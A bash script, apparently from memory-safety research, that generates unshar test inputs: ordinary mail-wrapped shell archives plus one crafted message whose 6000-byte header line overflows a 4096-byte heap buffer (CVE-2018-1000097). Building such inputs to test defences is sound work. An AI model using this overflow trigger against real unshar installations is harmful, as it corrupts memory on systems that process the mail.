#!/bin/bash
# mkinputs.sh SHAR OUTDIR -- make the unshar inputs: mail messages carrying
# shell archives (made by SHAR, the fixed build's shar), and the attack:
# the same message with one 6000-byte header line.  unshar skips the mail
# header line by line with fgets (rw_buffer, BUFSIZ, file) into a buffer
# of rw_base_size = page size (4096) bytes (CVE-2018-1000097): the long
# line is written past the end of the heap buffer.
set -euo pipefail
shar=$(readlink -f "$1") out=$(mkdir -p "$2" && cd "$2" && pwd)
mkdir -p "$out"
t=$(mktemp -d); trap 'rm -rf "$t"' EXIT
cd "$t"
mkdir -p proj/src
for i in $(seq 1 60); do echo "line $i: failure-oblivious computing keeps the server up"; done > proj/README
for i in $(seq 1 200); do echo "int f$i (int x) { return x * $i + 1; }"; done > proj/src/funcs.c
printf 'all:\n\tcc -o funcs src/funcs.c\n' > proj/Makefile
seq 1 3000 > proj/numbers.txt

mail ()   # mail SUBJECT EXTRA-HEADER FILES...
{
  local subj=$1 extra=$2; shift 2
  printf 'From alice@example.org Mon Dec  6 12:34:00 2004\n'
  printf 'From: Alice <alice@example.org>\n'
  printf 'To: bob@example.org\n'
  printf 'Subject: %s\n' "$subj"
  [ -n "$extra" ] && printf '%s\n' "$extra"
  printf '\nHere is the archive.\n\n'
  "$shar" -q -Q -m -T -D -c -a -n "$subj" -s alice@example.org "$@"
}
mail "proj part 1" "" proj/README proj/Makefile > "$out/mail-1.txt"
mail "proj part 2" "" proj/src/funcs.c > "$out/mail-2.txt"
mail "proj numbers" "" proj/numbers.txt > "$out/mail-3.txt"
long="X-Face: $(head -c 6000 /dev/zero | tr '\0' 'Q')"
mail "proj part 1" "$long" proj/README proj/Makefile > "$out/cve-2018-1000097.txt"
